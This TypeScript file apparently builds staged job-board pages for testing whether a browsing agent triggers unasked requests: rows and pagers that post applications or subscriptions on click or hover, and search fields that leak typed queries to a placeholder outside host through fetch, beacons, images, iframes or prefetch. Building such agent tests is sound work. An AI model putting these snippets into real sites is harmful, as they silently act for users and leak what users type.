import { type Html, html, raw } from '../../sites/html';
import type { Asked, Breaks, PageAttack, Reply, Stage, StagedRun } from '../attack';
import type { Evidence } from '../stage/evidence';
import { frozenIn, unasked } from '../stage/judging';
import { withOrigins } from '../stage/serve-stage';
import { allAsks, asks, baseOf } from './asks';
import { boardReply } from './board-reply';
import { linkRow, paneRow, respondWithBoard, rowText } from './page';
import { opensRows, turnsPages } from './place';
import { type Posting, postings } from './postings';

/*
 * Boards that do more than they show as they are read: opening a row, turning a page, searching and narrowing ask for something besides.
 * What is pressed is what a run has to press, so that the request alone can be held.
 */

interface Board {
  rows?(jobs: readonly Posting[]): Html;
  above?: string;
  pager?: string;
  script?: string;
  run?: StagedRun;
  jobs?: number;
}

const paneRows = (jobs: readonly Posting[]) => html`${jobs.map((job) => paneRow(job))}`;

function stageOf({ rows, above = '', pager, script = '', run = opensRows, jobs: count = 4 }: Board): Stage {
  const jobs = postings(count);
  return {
    pages: {},
    start: '/jobs',
    run,
    settleMs: 800,
    at({ role, path, method }, origins): Reply | null {
      if (role !== 'site' || path !== '/jobs' || method !== 'GET')
        return method === 'POST' ? { status: 204 } : boardReply(path);
      const page = respondWithBoard({
        heading: 'Jobs',
        total: count,
        rows: rows?.(jobs) ?? html`${jobs.map((job) => linkRow(job))}`,
        above: raw(above),
        pager: pager === undefined ? undefined : html`<nav class="pages" aria-label="Pagination">${raw(pager)}</nav>`,
        script: `navigator.serviceWorker.register('/service-worker.js');\n${script}`,
        traps: [],
      });
      return { ...page, body: withOrigins(page.body ?? '', origins) };
    },
  };
}

function attack(id: string, goal: string, stage: Stage, isHit: (asked: Asked) => boolean): PageAttack {
  return {
    id: `board-requests/${id}`,
    class: 'board-requests',
    goal,
    needsBrowser: true,
    stage,
    judge: (evidence) => judge(evidence, isHit),
  };
}

const judge = (evidence: Evidence, isHit: (asked: Asked) => boolean): Partial<Breaks> => ({
  submits: unasked(evidence).filter((asked) => asked.method !== 'OPTIONS' && isHit(asked)).length,
  frozen: frozenIn(evidence),
});

const under = (base: string) => (asked: Asked) => asked.path.startsWith(`${base}/`);

/** A press on a row opens its posting, and asks for all of it at once. */
function besides(prefix: string, names: readonly string[], boardOf: (script: string) => Board): PageAttack[] {
  const stage = stageOf(boardOf(allAsks(names)));
  return names.map((name, nth) =>
    attack(`${prefix}/${name}`, `opening a posting does what nobody asked for: ${name}`, stage, under(baseOf(nth))),
  );
}

const onRow = (event: string, script: string) =>
  `document.addEventListener('${event}', ({ target }) => { const id = target.closest?.('[data-open]')?.dataset.open; if (!id) return; ${script} }, true);`;
const rowBesides = besides('row-besides', Object.keys(asks), (script) => ({
  rows: paneRows,
  script: onRow('click', script),
}));

/** What a page hears of a press before and after it. */
const events = ['pointerdown', 'pointerover', 'mousemove', 'mouseup', 'selectstart', 'focusin'];
const rowEvents = () => {
  const script = events.map((event, nth) =>
    onRow(event, `fetch('${baseOf(nth)}/jobs/' + id + '/oneclick', { method: 'POST' });`),
  );
  const stage = stageOf({ rows: paneRows, script: script.join('\n') });
  return events.map((event, nth) => attack(`row-on/${event}`, `a row applies on ${event}`, stage, under(baseOf(nth))));
};

/** Rows that post to what is kept of a user, as REST would have it, each to another. */
const collections = ['job_applications', 'applications', 'favourites', 'follows', 'subscriptions', 'candidatures'];
const postingRow = ({ id, ...job }: Posting, path: string) =>
  html`<li><form method="post" action="/${path}"><input type="hidden" name="job" value="${id}"><button class="card">${rowText({ id, ...job })}</button></form></li>`;
const rowPosts = () => {
  const stage = stageOf({
    jobs: collections.length,
    run: { kind: 'collect', pages: 1, details: collections.length },
    rows: (jobs) => html`${jobs.map((job, nth) => postingRow(job, collections[nth] ?? ''))}`,
  });
  return collections.map((path) =>
    attack(
      `row-posts-to/${path}`,
      `a row is a button that posts to ${path}`,
      stage,
      (asked) => asked.path === `/${path}`,
    ),
  );
};

const pagerPosts = ['job_applications', 'favourites', 'job-alerts', 'subscriptions', 'nominations'].map((path) =>
  attack(
    `pager-posts-to/${path}`,
    `“Next page” posts to ${path}`,
    stageOf({
      run: turnsPages,
      pager: `<form method="post" action="/${path}"><input type="hidden" name="jobs" value="1,2,3"><button>Next page</button></form>`,
    }),
    (asked) => asked.path === `/${path}`,
  ),
);

const field = (attributes = '') =>
  `<input type="search" name="q" aria-label="Keywords" placeholder="Job title or keywords" ${attributes}><button>Search</button>`;
const searchesFor = (words: string): StagedRun => ({
  kind: 'discover',
  search: { words, filters: [] },
  pages: 1,
  details: 0,
});
const searchForms: Record<string, [form: string, isHit: (asked: Asked) => boolean]> = {
  'posts-saved-search': [
    `<form role="search" method="post" action="/saved-searches">${field()}</form>`,
    ({ path }) => path === '/saved-searches',
  ],
  'gets-alerts': [
    `<form role="search" action="/job-alerts">${field()}</form>`,
    ({ path }) => path.startsWith('/job-alerts'),
  ],
  'on-input': [
    `<form role="search" action="/jobs">${field(`oninput="fetch('/saved-searches', { method: 'POST', body: 'q=' + this.value })"`)}</form>`,
    ({ path }) => path === '/saved-searches',
  ],
  'hidden-subscription': [
    `<form role="search" method="post" action="/jobs"><input type="hidden" name="type" value="subscribe">${field()}</form>`,
    ({ method }) => method === 'POST',
  ],
};
const searches = Object.entries(searchForms).map(([name, [above, isHit]]) =>
  attack(`search/${name}`, 'a search does more than search', stageOf({ above, run: searchesFor('nurse') }), isHit),
);

/** What a filter asks for beside narrowing the list. */
const filterAsks: Record<string, string> = {
  'saves-search': `fetch('/saved-searches', { method: 'POST', body: 'place=remote' })`,
  'creates-alert': `fetch('/api/alerts', { method: 'POST', body: 'place=remote' })`,
  'get-alert': `new Image().src='/api/job-alerts?create=1'`,
};
const filters = () => {
  const stage = stageOf({
    above: `<form action="/jobs"><fieldset><legend>Workplace</legend><label><input type="checkbox" name="place" value="remote" onchange="${Object.values(filterAsks).join(';')}"> Remote</label><label><input type="checkbox" name="place" value="office"> On-site</label></fieldset><button>Show results</button></form>`,
    run: {
      kind: 'discover',
      search: { words: null, filters: [{ filter: 'Workplace', options: ['Remote'] }] },
      pages: 1,
      details: 0,
    },
  });
  return Object.entries(filterAsks).map(([name, script]) => {
    const [, path = ''] = /'(\/[^']+)'/.exec(script) ?? [];
    return attack(`filter/${name}`, 'a filter creates an alert', stage, (asked) => asked.path === path);
  });
};

const word = 'zymurgy';
/** Ways to tell others what is looked for, besides the address of a form (`searches-elsewhere.ts`). */
const tellings: Record<string, string> = {
  fetch: `oninput="fetch('{{other}}/collected?q=' + this.value, { mode: 'no-cors' })"`,
  'fetch-as-a-search': `oninput="fetch('{{other}}/search?q=' + this.value, { mode: 'no-cors' })"`,
  post: `oninput="fetch('{{other}}/collected', { method: 'POST', mode: 'no-cors', body: this.value })"`,
  'fetch-encoded': `oninput="fetch('{{other}}/search?q=' + btoa(this.value))"`,
  image: `onchange="new Image().src = '{{other}}/collected?q=' + this.value"`,
  beacon: `onblur="navigator.sendBeacon('{{other}}/search', this.value)"`,
  frame: `oninput="document.querySelector('iframe').src = '{{other}}/collected?q=' + this.value"`,
  prefetch: `oninput="document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '{{other}}/search?q=' + this.value }))"`,
  navigation: `onchange="location = '{{other}}/find?q=' + this.value"`,
};
const told = Object.entries(tellings).map(([name, attributes]): PageAttack => {
  const stage = stageOf({
    above: `<form role="search" action="/jobs">${field(attributes)}</form><iframe hidden></iframe>`,
    run: searchesFor(word),
  });
  const isHit = ({ role, path, body }: Asked) =>
    role !== 'site' && [word, btoa(word)].some((one) => (path + body).includes(one));
  return {
    ...attack(`search-told/${name}`, 'what the user looks for is told to somebody else', stage, isHit),
    judge: (evidence) => ({ bytesElsewhere: unasked(evidence).filter(isHit).length * word.length }),
  };
});

export const requestAttacks: readonly PageAttack[] = [
  ...rowBesides,
  ...rowEvents(),
  ...rowPosts(),
  ...pagerPosts,
  ...searches,
  ...filters(),
  ...told,
];
